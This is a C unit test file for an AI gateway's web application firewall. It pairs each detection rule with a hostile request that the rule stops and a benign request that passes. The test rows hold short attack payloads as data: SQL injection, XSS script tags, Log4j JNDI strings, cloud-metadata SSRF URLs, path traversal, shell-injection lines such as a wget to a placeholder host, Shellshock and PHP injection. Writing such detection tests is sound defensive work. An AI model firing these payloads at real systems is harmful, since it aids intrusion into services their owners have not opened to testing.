/* Every rule: a request that it stops, under its exact name and label, and one like it that passes all. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>

#include <cmocka.h>

#include "base/text.h"
#include <aigw/waf.h>
#include <stdio.h>
#include <stdlib.h>

#define CORE  "awswaf:managed:aws:core-rule-set:"
#define KNOWN "awswaf:managed:aws:known-bad-inputs:"
#define SQL   "awswaf:managed:aws:sql-database:"
#define PROTO "aigw:waf:protocol:"
#define INJ   "aigw:waf:injection:"
#define FORM  "application/x-www-form-urlencoded"
#define JSON  "application/json"
#define AGENT "\x01" /* the header is the user agent */
#define HOST  "\x02"

/* What differs from a plain request. NULL: as in that one. */
typedef struct from {
    const char *method, *path, *query, *header, *value, *type, *body;
} from;

typedef struct row {
    const char *rule, *label;
    from hit, miss;
} row;

#define Q(text)                                                                                    \
    {                                                                                              \
        .query = (text)                                                                            \
    }
#define P(text)                                                                                    \
    {                                                                                              \
        .path = (text)                                                                             \
    }
#define H(text)                                                                                    \
    {                                                                                              \
        .header = "x-test", .value = (text)                                                        \
    }
#define C(text)                                                                                    \
    {                                                                                              \
        .header = "cookie", .value = (text)                                                        \
    }
#define B(text)                                                                                    \
    {                                                                                              \
        .method = "POST", .type = FORM, .body = (text)                                             \
    }
#define J(text)                                                                                    \
    {                                                                                              \
        .method = "POST", .path = "/v1/chat/completions", .type = JSON, .body = (text)             \
    }
#define A16  "a=1&a=1&a=1&a=1&a=1&a=1&a=1&a=1&a=1&a=1&a=1&a=1&a=1&a=1&a=1&a=1&"
#define A256 A16 A16 A16 A16 A16 A16 A16 A16 A16 A16 A16 A16 A16 A16 A16 A16

/* "*300" stands for that many letters. */
static aigw_slice text_of(const char *text)
{
    static char letters[16384];
    if (!text || text[0] != '*')
        return aigw_slice_of(text);
    memset(letters, 'a', sizeof letters);
    return gw_slice(letters, strtoul(text + 1, NULL, 10));
}

static const row rows[] = {
    /* AWSManagedRulesCommonRuleSet */
    {"NoUserAgent_HEADER",
     CORE "NoUserAgent_Header",
     {.header = AGENT},
     {.header = AGENT, .value = "curl/8.5"}},
    {"UserAgent_BadBots_HEADER",
     CORE "BadBots_Header",
     {.header = AGENT, .value = "Nessus SOAP"},
     {.header = AGENT, .value = "OpenAI/Python 1.51.0"}},
    {"SizeRestrictions_QUERYSTRING", CORE "SizeRestrictions_QueryString", Q("*2049"), Q("*2048")},
    {"SizeRestrictions_Cookie_HEADER", CORE "SizeRestrictions_Cookie_Header", C("*10241"),
     C("*10240")},
    {"SizeRestrictions_BODY", CORE "SizeRestrictions_Body", B("*8193"), B("*8192")},
    {"SizeRestrictions_URIPATH", CORE "SizeRestrictions_URIPath", P("*1025"), P("*1024")},
    {"EC2MetaDataSSRF_BODY", CORE "EC2MetaDataSSRF_Body",
     B("u=http://169.254.169.254/latest/meta-data/"), B("u=see+section+169.254")},
    {"EC2MetaDataSSRF_BODY", CORE "EC2MetaDataSSRF_Body",
     J("{\"messages\":[{\"role\":\"user\",\"content\":[{\"type\":\"image_url\",\"image_url\":{"
       "\"url\":\"http://[::ffff:a9fe:a9fe]/\"}}]}]}"),
     J("{\"messages\":[{\"role\":\"user\",\"content\":[{\"type\":\"image_url\",\"image_url\":{"
       "\"url\":\"https://example.com/cat.png\"}}]}]}")},
    {"EC2MetaDataSSRF_COOKIE", CORE "EC2MetaDataSSRF_Cookie",
     C("next=http%3A%2F%2F169.254.169.254%2Flatest"), C("next=home")},
    {"EC2MetaDataSSRF_URIPATH", CORE "EC2MetaDataSSRF_URIPath",
     P("/proxy/metadata.google.internal/x"), P("/proxy/metadata")},
    {"EC2MetaDataSSRF_QUERYARGUMENTS", CORE "EC2MetaDataSSRF_QueryArguments",
     Q("url=http%253A%252F%252Flocalhost%252Fadmin"), Q("url=https%3A%2F%2Fexample.com%2F")},
    {"GenericLFI_QUERYARGUMENTS", CORE "GenericLFI_QueryArguments", Q("f=..%252f..%252fetc"),
     Q("f=notes..txt")},
    {"GenericLFI_URIPATH", CORE "GenericLFI_URIPath", P("/static/..%5c..%5cx"),
     P("/static/v1.2/x")},
    {"GenericLFI_BODY", CORE "GenericLFI_Body", B("f=../../secret"), B("f=a/b/c")},
    {"RestrictedExtensions_URIPATH", CORE "RestrictedExtensions_URIPath", P("/backup/app.ini"),
     P("/backup/app.html")},
    {"RestrictedExtensions_QUERYARGUMENTS", CORE "RestrictedExtensions_QueryArguments",
     Q("f=server.log"), Q("f=catalog")},
    {"GenericRFI_QUERYARGUMENTS", CORE "GenericRFI_QueryArguments", Q("p=http://203.0.113.9/x.txt"),
     Q("p=http://example.com/x.txt")},
    {"GenericRFI_BODY", CORE "GenericRFI_Body", B("p=ftp://203.0.113.9/x"), B("p=203.0.113.9")},
    {"GenericRFI_URIPATH", CORE "GenericRFI_URIPath", P("/go/https:%2f%2f203.0.113.9/x"),
     P("/go/203.0.113.9")},
    {"CrossSiteScripting_COOKIE", CORE "CrossSiteScripting_Cookie",
     C("a=%3Cscript%3Ealert(1)%3C/script%3E"), C("a=script")},
    {"CrossSiteScripting_QUERYARGUMENTS", CORE "CrossSiteScripting_QueryArguments",
     Q("q=<script>alert(\"hello\")</script>"), Q("q=a+script+about+alerts")},
    {"CrossSiteScripting_BODY", CORE "CrossSiteScripting_Body", B("q=%3Csvg/onload%3Dx()%3E"),
     B("q=svg+files")},
    {"CrossSiteScripting_URIPATH", CORE "CrossSiteScripting_URIPath", P("/x/%3Cscript%3E"),
     P("/x/script")},
    /* AWSManagedRulesKnownBadInputsRuleSet */
    {"JavaDeserializationRCE_HEADER", KNOWN "JavaDeserializationRCE_Header",
     H("(java.lang.Runtime).getRuntime().exec(\"whoami\")"), H("java 21")},
    {"JavaDeserializationRCE_HEADER",
     KNOWN "JavaDeserializationRCE_Header",
     {.header = "spring.cloud.function.routing-expression", .value = "T(java.lang.Runtime)"},
     {.header = "spring", .value = "boot"}},
    {"JavaDeserializationRCE_BODY", KNOWN "JavaDeserializationRCE_Body",
     B("class.module.classLoader.resources=x"), B("class=module")},
    {"JavaDeserializationRCE_URIPATH", KNOWN "JavaDeserializationRCE_URIPath",
     P("/x/java.lang.Runtime"), P("/x/java")},
    {"JavaDeserializationRCE_QUERYSTRING", KNOWN "JavaDeserializationRCE_QueryString",
     Q("class.module.classLoader.x=1"), Q("class=module")},
    {"Host_localhost_HEADER",
     KNOWN "Host_Localhost_Header",
     {.header = HOST, .value = "localhost:8787"},
     {.header = HOST, .value = "localhost.example.com"}},
    {"Host_localhost_HEADER",
     KNOWN "Host_Localhost_Header",
     {.header = HOST, .value = "127.0.0.1"},
     {.header = HOST, .value = "localhost", .path = "/healthz"}},
    {"PROPFIND_METHOD", KNOWN "Propfind_Method", {.method = "PROPFIND"}, {.method = "OPTIONS"}},
    {"ExploitablePaths_URIPATH", KNOWN "ExploitablePaths_URIPath", P("/app/WEB-INF/web.xml"),
     P("/app/web/info.html")},
    {"ExploitablePaths_URIPATH", KNOWN "ExploitablePaths_URIPath", P("/.env"), P("/environment")},
    {"Log4JRCE_HEADER", KNOWN "Log4JRCE_Header", H("${jndi:ldap://example.com/}"),
     H("jndi is a word")},
    {"Log4JRCE_HEADER", KNOWN "Log4JRCE_Header", C("a=${jndi:ldap://example.com/}"), C("a=jndi")},
    {"Log4JRCE_QUERYSTRING", KNOWN "Log4JRCE_QueryString",
     Q("x=%24%7B%24%7Blower%3Aj%7Dndi%3Aldap"), Q("x=log4j")},
    {"Log4JRCE_BODY", KNOWN "Log4JRCE_Body", B("x=${jndi:dns://e/}"), B("x=jndi")},
    {"Log4JRCE_URIPATH", KNOWN "Log4JRCE_URIPath", P("/$%7Bjndi:ldap:%2f%2fx%7D"), P("/log4j")},
    {"ReactJSRCE_BODY", KNOWN "ReactJSRCE_Body", B("0={\"then\":\"$1:__proto__:then\"}"),
     B("0=react")},
    /* AWSManagedRulesSQLiRuleSet */
    {"SQLi_QUERYARGUMENTS", SQL "SQLi_QueryArguments", Q("id=1'+or+'1'='1"), Q("id=1")},
    {"SQLi_BODY", SQL "SQLi_Body", B("id=1 union/**/select 1,2"), B("id=the+union+of+two+sets")},
    {"SQLi_COOKIE", SQL "SQLi_Cookie", C("id=1'%20or%201=1--%20"), C("id=order-by-name")},
    {"SQLi_URIPATH", SQL "SQLi_URIPath", P("/x/1%20union%20select%20name"),
     P("/x/unions/selected")},
    {"SQLiExtendedPatterns_QUERYARGUMENTS", SQL "SQLiExtendedPatterns_QueryArguments",
     Q("id=1;drop+table+users--"), Q("id=drop")},
    {"SQLiExtendedPatterns_BODY", SQL "SQLiExtendedPatterns_Body", B("id=1;drop+table+users--"),
     B("id=drop+the+table")},
    {"SQLiExtendedPatterns_HEADER", SQL "SQLiExtendedPatterns_Header", H("1' or '1'='1' -- "),
     H("it's or so")},
    {"SQLiExtendedPatterns_URIPATH", SQL "SQLiExtendedPatterns_UriPath", P("/x/1%20or%201=1"),
     P("/x/1or2")},
    /* AigwProtocolRuleSet */
    {"Method_METHOD", PROTO "Method_Method", {.method = "TRACE"}, {.method = "DELETE"}},
    {"Host_HEADER",
     PROTO "Host_Header",
     {.header = HOST, .value = ""},
     {.header = HOST, .path = "/healthz"}},
    {"Host_HEADER",
     PROTO "Host_Header",
     {.header = HOST},
     {.header = HOST, .value = "[2001:db8::1]:8787"}},
    {"HeaderSyntax_HEADER",
     PROTO "HeaderSyntax_Header",
     {.header = "range", .value = "bytes=10-1"},
     {.header = "range", .value = "bytes=1-10"}},
    {"RestrictedHeader_HEADER",
     PROTO "RestrictedHeader_Header",
     {.header = "proxy", .value = "x"},
     {.header = "x-proxied", .value = "x"}},
    {"ContentType_HEADER",
     PROTO "ContentType_Header",
     {.method = "POST", .type = "text/plain", .body = "x"},
     {.method = "POST", .type = "application/json; charset=utf-8", .body = "{}"}},
    {"BodyLength_BODY", PROTO "BodyLength_Body", {.type = FORM, .body = "a=1"}, B("a=1")},
    {"UrlEncoding_URI", PROTO "UrlEncoding_URI", Q("a=%00"), Q("a=%30")},
    {"ArgumentCount_QUERYARGUMENTS", PROTO "ArgumentCount_QueryArguments", Q(A256), Q(A16)},
    {"ArgumentCount_BODY", PROTO "ArgumentCount_Body", B(A256), B(A16)},
    {"BodySyntax_BODY", PROTO "BodySyntax_Body", J("{\"a\":1,\"a\":2}"), J("{\"a\":1,\"b\":2}")},
    {"ProtocolAttack_URIPATH", PROTO "ProtocolAttack_URIPath", P("/unix:x%7Chttp:%2f%2fy"),
     P("/unix")},
    {"ProtocolAttack_QUERYARGUMENTS", PROTO "ProtocolAttack_QueryArguments", Q("_method=PUT"),
     Q("method=PUT")},
    {"ProtocolAttack_HEADER", PROTO "ProtocolAttack_Header", H("unix:AAA|http://x"), H("unix")},
    {"ProtocolAttack_COOKIE", PROTO "ProtocolAttack_Cookie", C("$Version=1"), C("Version=1")},
    {"ProtocolAttack_BODY", PROTO "ProtocolAttack_Body", B("a=\\u0061lert"), B("a=u0061")},
    /* AigwInjectionRuleSet */
    {"UrlField_BODY", INJ "UrlField_Body",
     J("{\"tools\":[{\"type\":\"mcp\",\"server_url\":\"http://10.0.0.7/mcp\"}]}"),
     J("{\"tools\":[{\"type\":\"mcp\",\"server_url\":\"https://mcp.example.com/\"}]}")},
    {"UrlField_BODY", INJ "UrlField_Body",
     J("{\"messages\":[{\"role\":\"user\",\"content\":[{\"type\":\"image_url\",\"image_url\":{"
       "\"url\":\"file:///x\"}}]}]}"),
     J("{\"messages\":[{\"role\":\"user\",\"content\":[{\"type\":\"image_url\",\"image_url\":{"
       "\"url\":\"data:image/png;base64,AAAA\"}}]}]}")},
    {"Identifier_BODY", INJ "Identifier_Body", J("{\"model\":\"gpt<4o\"}"),
     J("{\"model\":\"deepseek/deepseek-r1:free\"}")},
    {"ShellInjection_QUERYARGUMENTS", INJ "ShellInjection_QueryArguments",
     Q("a=x;w'g'et+http:%2f%2fe.example"), Q("a=x;+get+nothing")},
    {"ShellInjection_BODY", INJ "ShellInjection_Body", B("a=$(cat+/etc)"), B("a=the+cat+sat")},
    {"ShellInjection_HEADER", INJ "ShellInjection_Header", H("() { :; }; echo x"), H("a function")},
    {"ShellInjection_COOKIE", INJ "ShellInjection_Cookie", C("a=x|uname"), C("a=x.uname")},
    {"ShellInjection_URIPATH", INJ "ShellInjection_URIPath", P("/x;id;/y"), P("/x;y=1/id")},
    {"CodeInjection_QUERYARGUMENTS", INJ "CodeInjection_QueryArguments", Q("a=<?php+x"),
     Q("a=php")},
    {"CodeInjection_BODY", INJ "CodeInjection_Body", B("a={{7*7}}"), B("a={7*7}")},
    {"CodeInjection_HEADER", INJ "CodeInjection_Header", H("<?php phpinfo();"), H("php")},
    {"CodeInjection_COOKIE", INJ "CodeInjection_Cookie", C("a=phpinfo('x')"), C("a=information")},
    {"CodeInjection_URIPATH", INJ "CodeInjection_URIPath", P("/__proto__%5Bx%5D"), P("/proto")},
    {"LdapInjection_QUERYARGUMENTS", INJ "LdapInjection_QueryArguments", Q("u=x)(uid=*"),
     Q("u=(x)+(y)")},
    {"LdapInjection_BODY", INJ "LdapInjection_Body", B("u=x)(uid=*"), B("u=(x)")},
    /* what browsers send, and names of people */
    {"LdapInjection_HEADER",
     INJ "LdapInjection_Header",
     {.header = "referer", .value = "https://x.example/?q=x)(uid=*"},
     {.header = "referer", .value = "https://x.example/wiki/Mercury_(planet)&oldid=1"}},
    {"LdapInjection_COOKIE", INJ "LdapInjection_Cookie", C("u=x)&(uid=*"),
     C("Consent=at=GMT%2B0100+(Central+European+Time)&version=6.10")},
    {"SQLi_COOKIE", SQL "SQLi_Cookie", C("p=1'---"), C("usprivacy=1---")},
    {"ShellInjection_BODY", INJ "ShellInjection_Body", J("{\"user\":\"x;w\\\\hoami\"}"),
     J("{\"user\":\"CORP\\\\bob\"}")},
    {"GenericRFI_HEADER",
     INJ "GenericRFI_Header",
     {.header = "x-include", .value = "http://10.0.0.3:8080/a"},
     {.header = "referer", .value = "http://10.0.0.3:8080/a"}},
    {"GenericLFI_HEADER",
     INJ "GenericLFI_Header",
     {.header = "x-include", .value = "file://"},
     {.header = "origin", .value = "file://"}},
    {"LdapInjection_HEADER", INJ "LdapInjection_Header", H("x)(uid=*"), H("(x)")},
    {"LdapInjection_COOKIE", INJ "LdapInjection_Cookie", C("u=x)(uid=*"), C("u=(x)")},
    {"LdapInjection_URIPATH", INJ "LdapInjection_URIPath", P("/x)(uid=*"), P("/(x)")},
    {"ResponseSplitting_QUERYARGUMENTS", INJ "ResponseSplitting_QueryArguments",
     Q("a=x%0d%0aSet-Cookie:+y"), Q("a=x%0aset")},
    {"ResponseSplitting_BODY", INJ "ResponseSplitting_Body", B("a=x%0aLocation:+y"),
     B("a=two%0alines")},
    {"ResponseSplitting_HEADER", INJ "ResponseSplitting_Header", H("x%0dy"), H("x%20y")},
    {"ResponseSplitting_COOKIE", INJ "ResponseSplitting_Cookie", C("a=x%0ay"), C("a=x%20y")},
    {"ResponseSplitting_URIPATH", INJ "ResponseSplitting_URIPath", P("/x%0d%0aSet-Cookie:y"),
     P("/x%20y")},
    {"CrossSiteScripting_HEADER",
     INJ "CrossSiteScripting_Header",
     {.header = "referer", .value = "https://e.example/?%3Cscript%3E"},
     {.header = "referer", .value = "https://e.example/?script"}},
    {"EC2MetaDataSSRF_HEADER", INJ "EC2MetaDataSSRF_Header", H("http://169.254.169.254/"),
     H("169.254")},
    {"GenericLFI_HEADER", INJ "GenericLFI_Header", H("../../x"), H("x/y")},
    {"GenericLFI_COOKIE", INJ "GenericLFI_Cookie", C("a=..%2f..%2fx"), C("a=x")},
    {"GenericRFI_HEADER", INJ "GenericRFI_Header", H("http://203.0.113.9/x"), H("203.0.113.9")},
    {"GenericRFI_COOKIE", INJ "GenericRFI_Cookie", C("a=http://203.0.113.9/x"), C("a=x")},
};
#define ROWS (sizeof rows / sizeof rows[0])

static aigw_waf *waf;

static void check_by(const aigw_waf *by, const from *f, aigw_waf_result *out)
{
    aigw_header headers[6] = {{GW_S("Host"), GW_S("gw.example.com")},
                              {GW_S("User-Agent"), GW_S("OpenAI/Python 1.51.0")}};
    size_t count = 2;
    const char *header = f->header ? f->header : "accept";
    aigw_slice value = f->header ? text_of(f->value) : GW_S("application/json");
    if (header[0] == AGENT[0])
        headers[1].value = value;
    else if (header[0] == HOST[0])
        headers[0].value = value;
    else
        headers[count++] = (aigw_header){aigw_slice_of(header), value};
    if (f->body) {
        headers[count++] = (aigw_header){GW_S("Content-Length"), GW_S("1")};
        headers[count++] = (aigw_header){GW_S("Content-Type"), aigw_slice_of(f->type)};
    }
    aigw_waf_request request = {.size = sizeof request,
                                .method = aigw_slice_of(f->method ? f->method : "GET"),
                                .path = text_of(f->path ? f->path : "/v1/things"),
                                .query = text_of(f->query),
                                .headers = headers,
                                .header_count = count,
                                .body = text_of(f->body)};
    assert_int_equal(aigw_waf_check(by, &request, out, NULL), AIGW_OK);
}

static bool saw(const aigw_waf_result *result, const row *is)
{
    for (size_t i = 0; i < result->match_count; i++) {
        if (strcmp(result->matches[i].rule, is->rule) == 0 &&
            strcmp(result->matches[i].label, is->label) == 0)
            return true;
    }
    return false;
}

/* Every group's rules count, so that each rule shows itself whatever else the request is. */
static aigw_waf *counting(void)
{
    static aigw_waf_override all[128];
    size_t n = 0;
    aigw_waf_rule rule;
    while (aigw_waf_rule_at(n, &rule)) {
        all[n] = (aigw_waf_override){rule.rule, AIGW_WAF_COUNT};
        n++;
    }
    aigw_waf_options options = {.size = sizeof options, .overrides = all, .override_count = n};
    aigw_waf *out = NULL;
    assert_int_equal(aigw_waf_new(&options, &out, NULL), AIGW_OK);
    return out;
}

static void hits_and_misses(void **state)
{
    (void)state;
    static aigw_waf_result result;
    aigw_waf *counter = counting();
    for (size_t i = 0; i < ROWS; i++) {
        check_by(counter, &rows[i].hit, &result);
        if (!saw(&result, &rows[i]) || result.block)
            fail_msg("row %zu, %s does not see its request", i, rows[i].rule);
        check_by(waf, &rows[i].hit, &result);
        bool size = strcmp(rows[i].rule, "SizeRestrictions_BODY") == 0;
        if (result.block == size)
            fail_msg("row %zu, %s: block is %d", i, rows[i].rule, result.block);
        check_by(waf, &rows[i].miss, &result);
        if (result.match_count)
            fail_msg("row %zu, %s: the honest one is seen by %s at %s (%d)", i, rows[i].rule,
                     result.matches[0].rule, result.matches[0].location, result.matches[0].pattern);
    }
    aigw_waf_free(counter);
}

static size_t rules_in(const char *group, const char *prefix)
{
    aigw_waf_rule rule;
    size_t count = 0;
    for (size_t i = 0; aigw_waf_rule_at(i, &rule); i++) {
        if (strcmp(rule.group, group) != 0)
            continue;
        count++;
        assert_int_equal(strncmp(rule.label, prefix, strlen(prefix)), 0);
    }
    return count;
}

static void groups_are_whole(void **state)
{
    (void)state;
    assert_int_equal(rules_in("AWSManagedRulesCommonRuleSet", CORE), 22);
    assert_int_equal(rules_in("AWSManagedRulesKnownBadInputsRuleSet", KNOWN), 12);
    assert_int_equal(rules_in("AWSManagedRulesSQLiRuleSet", SQL), 8);
    aigw_waf_rule rule;
    for (size_t i = 0; aigw_waf_rule_at(i, &rule); i++) {
        size_t r = 0;
        while (r < ROWS && (strcmp(rows[r].rule, rule.rule) || strcmp(rows[r].label, rule.label)))
            r++;
        if (r == ROWS)
            fail_msg("%s has no test", rule.rule);
    }
}

static int set_up(void **state)
{
    (void)state;
    aigw_waf_options options = {.size = sizeof options};
    aigw_error err;
    int code = aigw_waf_new(&options, &waf, &err);
    if (code == AIGW_E_UNSUPPORTED) {
        printf("skipped: %s\n", err.message);
        exit(0);
    }
    return code;
}

static int tear_down(void **state)
{
    (void)state;
    aigw_waf_free(waf);
    return 0;
}

int main(void)
{
    const struct CMUnitTest tests[] = {cmocka_unit_test(hits_and_misses),
                                       cmocka_unit_test(groups_are_whole)};
    return cmocka_run_group_tests(tests, set_up, tear_down);
}
